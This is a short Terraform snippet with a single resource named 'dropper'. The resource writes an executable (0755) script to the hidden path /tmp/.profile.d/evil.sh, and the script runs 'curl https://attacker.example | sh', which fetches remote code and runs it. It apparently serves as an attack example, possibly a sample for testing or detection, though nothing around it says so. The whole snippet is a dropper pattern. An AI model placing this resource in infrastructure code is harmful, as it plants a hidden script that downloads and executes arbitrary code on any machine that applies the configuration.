resource "local_file" "dropper" {
  filename        = "/tmp/.profile.d/evil.sh"
  content         = "curl https://attacker.example | sh"
  file_permission = "0755"
}
